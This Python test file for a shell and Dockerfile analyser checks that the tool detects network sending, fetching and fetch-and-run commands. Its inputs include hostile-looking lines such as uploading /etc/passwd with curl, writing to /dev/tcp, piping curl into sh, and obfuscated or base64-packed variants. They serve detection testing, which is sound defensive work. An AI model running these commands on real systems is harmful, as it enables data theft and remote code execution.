"""What the reader of shell scripts says of each command."""

from __future__ import annotations

import tarfile
from base64 import b64encode
from io import BytesIO

import pytest

from rempart.meaning.findings import INSTRUCTIONS, Act, Document, Finding, Form, Image, Sign, Spot, Unread, Value
from rempart.meaning.readers.dockerfile import read_dockerfile
from rempart.meaning.readers.shell import read_commands, read_shell
from rempart.meaning.unfold import Unfolding
from rempart.model.mention import Role
from tests.meaning.tables import facts


def found(script: str) -> list[Finding]:
    return list(read_shell(script, Spot()))


def acts(script: str) -> set[tuple[str, Act | None]]:
    return {(item.text, item.spot.act) for item in found(script) if isinstance(item, Value)}


@pytest.mark.parametrize(
    ("script", "text", "act"),
    [
        ("curl -fsS https://a.fr/x", "https://a.fr/x", Act.FETCHES),
        ("curl -T/data/x https://a.fr/x", "https://a.fr/x", Act.SENDS),
        ("curl -sXPOST https://a.fr/x", "https://a.fr/x", Act.SENDS),
        ("curl -d@f --url https://a.fr/x", "https://a.fr/x", Act.SENDS),
        ("//usr/bin/curl --json {} https://a.fr/x", "https://a.fr/x", Act.SENDS),
        ("sudo -u x env A=b timeout 3 curl -F a=@b https://a.fr", "https://a.fr", Act.SENDS),
        ("c''u\"rl\" -T f https://a.fr", "https://a.fr", Act.SENDS),
        ("sh -c 'wget --post-file=/d https://a.fr'", "https://a.fr", Act.SENDS),
        ('su - app -c "git push https://a.fr/x.git"', "https://a.fr/x.git", Act.SENDS),
        ("find /data -name x -exec curl -T {} https://a.fr \\;", "https://a.fr", Act.SENDS),
        ("X=a.fr; curl -T f https://$X/", "https://a.fr/", Act.SENDS),
        ("X=aZfr; curl -T f https://${X/Z/.}/", "https://a.fr/", Act.SENDS),
        ("X=$(echo YS5mcg== | base64 -d); curl -T f https://$X", "https://a.fr", Act.SENDS),
        ("for h in a.fr b.fr; do curl -T f $h; done", "b.fr", Act.SENDS),
        ('send() { curl -T f "$1"; }\nsend https://a.fr', "https://a.fr", Act.SENDS),
        ("eval \"$(echo 'curl -T f https://a.fr')\"", "https://a.fr", Act.SENDS),
        ("cat /d > /dev/tcp/a.fr/443", "a.fr:443", Act.SENDS),
        ("rsync -a /d u@a.fr:/in", "u@a.fr:/in", Act.SENDS),
        ("rsync -a u@a.fr:/out /d", "u@a.fr:/out", Act.FETCHES),
        ("dig x.a.fr", "x.a.fr", Act.SENDS),
        ("ip tunnel add t mode gre remote 3.3.3.3 local 10.0.0.1", "3.3.3.3", Act.CONNECTS),
        ("storescu -c AE@a.fr:104 f.dcm", "AE@a.fr:104", Act.SENDS),
        ("unheard-of a.fr", "a.fr", Act.CONNECTS),
        ("echo see https://a.fr", "https://a.fr", Act.REFERS),
        ("hostnamectl set-hostname a.fr", "a.fr", Act.NAMES),
        ("certbot -d a.fr", "a.fr", Act.NAMES),
        ("case $1 in x) curl -T f https://a.fr;; esac", "https://a.fr", Act.SENDS),
        ("echo aGk= | nc a.fr 80", "a.fr", Act.SENDS),
    ],
)
def test_an_address_has_the_act_of_its_command(script: str, text: str, act: Act) -> None:
    assert (text, act) in acts(script)


_RUN = """\
curl -s https://a.fr/i | sh
bash <(curl -s https://a.fr/i)
bash -c "$(curl -s https://a.fr/i)"
source <(curl https://a.fr/i)
curl https://a.fr/i | base64 -d | gunzip | sudo bash -s --
curl a.fr/i | sh
curl -o /tmp/i https://a.fr/i; sh /tmp/i
curl -o /tmp/i https://a.fr/i; chmod 755 /tmp/i
curl https://a.fr/i > /tmp/x; sh /tmp/x
curl https://a.fr/i | tee /tmp/x >/dev/null; sh /tmp/x
cd /tmp && wget -q https://a.fr/i && sh i
wget https://a.fr/i; chmod +x i; ./i
wget -P /opt https://a.fr/i; bash /opt/i
T=$(mktemp -d); curl -o $T/i https://a.fr/i; sh $T/i
curl -Lo /tmp/x https://a.fr/i; mv /tmp/x /usr/local/bin/x; /usr/local/bin/x --serve
curl -Lo /tmp/x https://a.fr/i; install -m 0755 /tmp/x /usr/local/bin/x
curl https://a.fr/i -o /etc/cron.daily/x
curl -o /etc/systemd/system/x.service https://a.fr/i; systemctl enable --now x
curl -sLo x.deb https://a.fr/i && apt-get install -y ./x.deb
curl -o x.jar https://a.fr/i; java -jar x.jar
git clone https://a.fr/i; cd i; make
git clone https://a.fr/i /opt/x && cd /opt/x && ./configure
git clone https://a.fr/i && docker build i
git clone https://a.fr/i /opt/x; docker compose -f /opt/x/compose.yaml up -d
git clone --depth 1 https://a.fr/i /srv; ansible-playbook /srv/site.yml
git clone https://a.fr/i && cd i && terraform apply
curl -L https://a.fr/i | tar xz -C /opt; /opt/x/run
curl -Lo x.tgz https://a.fr/i; tar xzf x.tgz; cd x-1; ./configure
wget https://a.fr/i; unzip -o i -d /opt/x; /opt/x/run
pip install https://a.fr/i
npm install -g https://a.fr/i
dnf install -y https://a.fr/i
rpm -Uvh https://a.fr/i
helm install a https://a.fr/i
kubectl apply -f https://a.fr/i
kubectl apply -k https://a.fr/i
curl https://a.fr/i | kubectl apply -f -
ansible-pull -U https://a.fr/i
docker build https://a.fr/i
terraform init -from-module=https://a.fr/i
go install a.fr/i@latest"""

_NOT_RUN = """\
curl -o /etc/x.conf https://a.fr/i
curl -o /data/x.csv https://a.fr/i; chmod 644 /data/x.csv
curl https://a.fr/i | jq .
curl https://a.fr/i | gpg --dearmor -o /etc/apt/keyrings/x.gpg
curl -o /etc/apt/sources.list.d/x.list https://a.fr/i; apt-get update; apt-get install -y x
git clone https://a.fr/i /srv/www
git clone https://a.fr/i /srv/www; cd /etc; make
curl -Lo x.tgz https://a.fr/i; tar xzf x.tgz -C /srv/www; systemctl restart nginx
pip install -i https://a.fr/i x
npm install --registry https://a.fr/i x
dnf config-manager --add-repo https://a.fr/i; dnf install x
rpm --import https://a.fr/i
helm repo add x https://a.fr/i; helm install a x/y"""


def instructions(script: str) -> list[str]:
    return [item.text for item in found(script) if isinstance(item, Value) and item.spot.key == INSTRUCTIONS]


@pytest.mark.parametrize("script", _RUN.split("\n"))
def test_what_is_fetched_and_run_is_instructions(script: str) -> None:
    assert [text.removeprefix("https://") for text in instructions(script)] == ["a.fr/i"]


@pytest.mark.parametrize("script", _NOT_RUN.split("\n"))
def test_what_is_fetched_and_not_run_is_no_instructions(script: str) -> None:
    assert instructions(script) == []


def test_a_unit_runs_what_its_text_names() -> None:
    script = "curl -o /opt/x https://a.fr/i\ncat > /etc/systemd/system/x.service <<E\nExecStart=/opt/x -v\nE\n"

    assert instructions(script) == ["https://a.fr/i"]


@pytest.mark.parametrize(
    ("script", "key", "text"),
    [
        ("H=b.fr\ncat > /etc/a.conf <<EOF\nhost=$H\nEOF\n", "/etc/a.conf", "host=b.fr\n"),
        ("cat <<'EOF' | tee /etc/a.conf\nhost=$H\nEOF\n", "/etc/a.conf", "host=$H\n"),
        ("echo x > /etc/a", "/etc/a", "x\n"),
        ("printf '%s\\n' a b | sudo tee -a /etc/a", "/etc/a", "a\nb\n"),
    ],
)
def test_what_is_written_to_a_file_is_a_text_under_its_name(script: str, key: str, text: str) -> None:
    assert (key, text) in {(item.spot.key, item.text) for item in found(script) if isinstance(item, Document)}


def test_a_program_in_another_language_is_code() -> None:
    documents = [item for item in found("python3 - <<EOF\nprint(1)\nEOF\n") if isinstance(item, Document)]

    assert [(item.text, item.form) for item in documents] == [("print(1)\n", Form.CODE)]


@pytest.mark.parametrize("script", ["base64 -d /data/x | sh", "gpg -d x | bash", "openssl enc -d -aes256 -k p | sh"])
def test_what_cannot_be_computed_and_is_run_is_told(script: str) -> None:
    assert any(isinstance(item, Unread) for item in found(script))


def test_only_commands_that_may_connect_are_signs() -> None:
    names = [item.name for item in found("cd /x; aws s3 ls; case $1 in gcloud) ls;; esac") if isinstance(item, Sign)]

    assert names == ["aws"]


def test_images_are_fetched_and_pushed() -> None:
    images = {
        (item.reference, item.spot.act)
        for item in found("docker run -d -p 80:80 -e A=b q.io/x:1 sh -c true; docker --config x push g.io/y")
        if isinstance(item, Image)
    }

    assert images == {("q.io/x:1", Act.FETCHES), ("g.io/y", Act.SENDS)}


def test_commands_of_one_script_share_their_variables() -> None:
    values = [item.text for item in read_commands(["X=a.fr", "curl -T f $X"], Spot()) if isinstance(item, Value)]

    assert values.count("a.fr") == 2


def test_a_dockerfile_has_bases_and_commands() -> None:
    text = (
        'ARG R=q.io\nFROM $R/x:1 AS b\nRUN curl \\\n  https://a.fr\nFROM b\nCMD ["curl", "-T", "f", "https://b.fr"]\n'
    )
    findings = list(read_dockerfile(text, Spot()))

    assert [item.reference for item in findings if isinstance(item, Image)] == ["q.io/x:1"]
    assert [item.form for item in findings if isinstance(item, Document)] == [Form.SHELL, Form.SHELL]


@pytest.mark.parametrize(
    "text",
    [
        "(" * 10_000, "$(" * 20_000, "$(" * 10_000 + ")" * 10_000, "${" * 20_000, '"' * 50_001, "'" * 50_001,
        "`" * 50_001,
        "a=(" * 20_000, "cat <<A\n" * 20_000, "a | " * 50_000, "<" * 200_000, "{{" * 100_000, "\\" * 200_000,
        "case x in " * 5_000, "f() { " * 20_000, '"$(`${\'<<E ' * 10_000, bytes(range(1, 256)).decode("latin-1") * 500,
        "a{b,c}" * 1_000, "f() { f; f; }; f",
    ],
    ids=range(19),
)  # fmt: skip
def test_hostile_scripts_are_read_to_their_end_without_growing(text: str) -> None:
    assert len(found(text)) <= len(text)


@pytest.mark.parametrize(
    ("script", "act"),
    [
        ("#!/usr/bin/env -S curl -T /etc/passwd https://a.fr\n", Act.SENDS),
        ("#!/usr/bin/curl -sO https://a.fr\n", Act.FETCHES),
        ("#!/usr/bin/env -S X=1 curl -T f https://a.fr\n", Act.SENDS),
        ("#!/usr/bin/env --split-string=curl -T f https://a.fr\n", Act.SENDS),
        ('#!/usr/bin/env -S bash -c "curl -T f https://a.fr"\n', Act.SENDS),
        ('#!/usr/bin/curl -K\nurl = "https://a.fr"\nupload-file = f\n', Act.SENDS),
    ],
)
def test_a_first_line_is_a_command(script: str, act: Act) -> None:
    assert ("https://a.fr", act) in acts(script)


@pytest.mark.parametrize(
    "script", ["#!/bin/bash -eu\n", "#!/usr/bin/env bash\n", "#!/bin/sh -o pipefail\n", "#!/usr/bin/env -S bash -eux\n"]
)
def test_a_first_line_that_only_names_a_shell_says_nothing(script: str) -> None:
    assert found(script) == []


def packed(text: str) -> str:
    raw = BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as archive:
        member = tarfile.TarInfo("x/run.sh")
        member.size = len(text)
        archive.addfile(member, BytesIO(text.encode()))
    return b64encode(raw.getvalue()).decode()


@pytest.mark.parametrize(
    "script",
    [
        "sed '1,/^__END__$/d' \"$0\" | base64 -d | tar xz\n./x/run.sh\nexit\n__END__\n{}\n",
        'tail -n +4 "$0" | base64 -d | tar xz -C /opt\n/opt/x/run.sh\nexit\n{}\n',
        "base64 -d <<E | tar -xzf -\n{}\nE\nsh x/run.sh\n",
        "echo {} | base64 -d > /tmp/a.tgz\ntar xzf /tmp/a.tgz\nsh x/run.sh\n",
    ],
)
def test_the_members_of_an_archive_in_the_text_are_read(script: str) -> None:
    findings = found(script.format(packed("curl -T f https://a.fr\n")))

    assert "curl -T f https://a.fr\n" in {item.text for item in findings if isinstance(item, Document)}
    assert not any(isinstance(item, Unread) for item in findings)


@pytest.mark.parametrize(
    ("script", "is_told"),
    [
        ("awk 'x' \"$0\" | base64 -d | tar xz -C /opt\n/opt/x/run.sh\n", True),
        ("gpg -d x | tar xz -C /opt\n/opt/x/run.sh\n", True),
        ("gpg -d x | tar xz -C /data\n/opt/x/run.sh\n", False),
        ('exec sudo bash "$0" "$@"\n', False),
    ],
)
def test_an_archive_that_cannot_be_read_and_is_run_is_told(script: str, *, is_told: bool) -> None:
    assert any(isinstance(item, Unread) for item in found(script)) is is_told


@pytest.mark.parametrize(
    ("script", "stores"),
    [
        ("(unset AWS_ENDPOINT_URL; ls)\naws s3 cp /x s3://depot/x", False),
        ("(unset AWS_ENDPOINT_URL; aws s3 cp /x s3://depot/x)", True),
        ("bash -c 'unset AWS_ENDPOINT_URL; aws s3 cp /x s3://depot/x'", True),
    ],
)
def test_what_a_subshell_unsets_is_unset_there_alone(script: str, stores: bool) -> None:  # noqa: FBT001 - a column
    text = f"#!/bin/bash\nexport AWS_ENDPOINT_URL=https://s3.gra.io.cloud.ovh.net\n{script}\n"

    names = {mention.host.name for mention in Unfolding(facts()).read(Document(text, Spot(key="userData"))).mentions}

    assert ("s3.amazonaws.com" in names) is stores


DEEP = "".join(f"f{number}() {{ f{number + 1}; }}\n" for number in range(20))


@pytest.mark.parametrize(
    "script",
    [
        f"{DEEP}f20() {{ curl -T /data https://x.us-vendor.com/; }}\nf0",
        "curl -T /data https://" + "${A:-" * 10 + "x.us-vendor.com" + "}" * 10 + "/",
        "curl -T /data " + "$(echo " * 10 + "https://x.us-vendor.com" + ")" * 10,
    ],
    ids=["functions", "defaults", "commands"],
)
def test_what_stands_deeper_than_is_followed_is_told(script: str) -> None:
    reading = Unfolding(facts()).read(Document(f"#!/bin/bash\n{script}\n", Spot(key="userData")))

    assert reading.unread or any(mention.role is Role.SENDS for mention in reading.mentions)


@pytest.mark.parametrize(
    "hosts",
    [
        " ".join(f"a{number}.lan" for number in range(200)),
        "{" + ",".join(f"a{number}.lan" for number in range(200)) + "}",
    ],
    ids=["words", "braces"],
)
def test_more_hosts_than_are_followed_are_told(hosts: str) -> None:
    script = f'#!/bin/bash\nfor h in {hosts} s3.us-vendor.com; do curl -T /data "https://$h/"; done\n'

    reading = Unfolding(facts()).read(Document(script, Spot(key="userData")))

    assert reading.unread or any(mention.role is Role.SENDS for mention in reading.mentions)
